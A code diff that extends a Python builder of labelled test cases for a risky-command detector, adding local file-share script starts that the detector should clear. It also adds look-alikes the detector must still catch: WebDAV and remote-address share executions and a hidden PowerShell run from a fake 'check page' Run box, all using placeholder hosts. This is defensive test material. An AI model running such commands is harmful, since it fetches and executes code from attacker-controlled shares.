@@ -41,7 +41,14 @@ Cleared here, by technique (each beside the look-alikes that must stay flagged o
   localhost. What the text does with what it fetches still counts (a pipe into a shell, mshta, a
   hidden PowerShell, the Run box from a page), and so do a private address written in disguise
   (one number, hex, octal), a name that starts with its digits or hides it before an @, 172.32/
-  172.15, and the public and documentation ranges.
+  172.15, and the public and documentation ranges. The same for a team's package index on such
+  an address (PG-NIX-FOREIGN-PACKAGE-INDEX) and a LAN service's own port (PG-SCRIPT-ODD-PORT).
+- `local-share-start`: a script or program started from a share of a local-network server by
+  its plain name (`& \\\\fs01\\it\\scripts\\Reset-Teams.ps1`, `call \\\\dc01\\netlogon\\logon.bat`), as IT's chat, mail or
+  wiki gives it: PG-WIN-UNC-EXECUTE's first pattern now reads the share's host as its other
+  patterns (and runbox.py) do, a dotted name, an address, WebDAV or a placeholder; a single
+  label resolves only on the local network. A dotted name, an address, WebDAV, a port, and the
+  same start written by a check page for the Run box keep their weight.
 """
 
 from __future__ import annotations
@@ -2784,6 +2791,54 @@ def lan_calls(book: Book) -> None:
         book.add("private-network-api", text, "flagged", platform, target, None)
 
 
+# -- cleared: a script or program on a share of a local-network server by its plain name ---------
+
+# IT's own chat, mail or wiki telling a colleague to start the team's script from the file
+# server: a single-label \\fs01 resolves only on the local network (as the rule's other
+# patterns and runbox.py already read it)
+LOCAL_SHARE_STARTS = [
+    "& \\\\fs01\\it\\scripts\\Reset-Teams.ps1",
+    '& "\\\\fs01\\it\\tools\\Collect-Logs.ps1" -Upload',
+    "start \\\\deploy01\\apps\\Setup.exe",
+    "call \\\\fs01\\netlogon\\map-drives.cmd",
+    "start \\\\printsrv\\drivers\\HP-UPD-x64.exe",
+    "call \\\\nas\\scripts\\backup.bat",
+    "& \\\\sccm01\\Client\\ccmsetup.exe /mp:sccm01",
+    "& \\\\fs01\\it\\scripts\\Install-Fonts.ps1 -Scope CurrentUser",
+    "start \\\\fs01\\apps\\Notepad++\\npp.8.7.4.Installer.x64.exe /S",
+    "call \\\\dc01\\netlogon\\logon.bat",
+]
+LOCAL_SHARE_SOURCES = [
+    "teams",
+    "outlook",
+    "https://intranet.harrowfield.example/it/kb/teams-reset",
+    "slack",
+    None,
+]
+
+# a dotted name, an address, WebDAV, a port, or the same start from a check page's Run box
+LOCAL_SHARE_LOOKALIKES = [
+    ("& \\\\files.umbra-stage.test\\s\\Reset-Teams.ps1", TERMINAL, "flagged"),
+    ("start \\\\203.0.113.5\\s\\Setup.exe", TERMINAL, "flagged"),
+    ("call \\\\umbra-stage.test@SSL\\DavWWWRoot\\fix.cmd", TERMINAL, "flagged"),
+    ("start \\\\files.umbra-stage.test@443\\s\\Setup.exe", TERMINAL, "flagged"),
+    ("& \\\\198.51.100.7\\share\\update.ps1", TERMINAL, "flagged"),
+    ("call \\\\cdn.umbra-stage.test\\netlogon\\verify.bat", TERMINAL, "flagged"),
+    ('powershell -w h -c "& \\\\fs01\\s\\verify.ps1"', RUN, "malicious"),
+    ("cmd /c start \\\\deploy01\\apps\\Setup.exe", RUN, "malicious"),
+]
+
+
+def local_share_starts(book: Book) -> None:
+    for i, text in enumerate(LOCAL_SHARE_STARTS):
+        source = LOCAL_SHARE_SOURCES[i % len(LOCAL_SHARE_SOURCES)]
+        book.add("local-share-start", text, "not_flagged", "windows", TERMINAL, source)
+        book.add("local-share-start", text, "not_flagged", "windows", UNKNOWN, None)
+    for text, target, expect in LOCAL_SHARE_LOOKALIKES:
+        book.add("local-share-start", text, expect, "windows", target, CHECK_PAGE)
+        book.add("local-share-start", text, "flagged", "windows", target, None)
+
+
 def _texts(path: Path) -> set[str]:
     if not path.is_file():
         return set()
@@ -2805,6 +2860,7 @@ def build() -> list[dict[str, str]]:
     tables(book)
     samples(book)
     lan_calls(book)
+    local_share_starts(book)
     seen = _texts(EARLIER) | set().union(*(_texts(p) for p in sorted(DEV.glob("*.jsonl"))))
     return [c for c in book.cases if c["id"] not in LEFT and c["text"] not in seen]
 
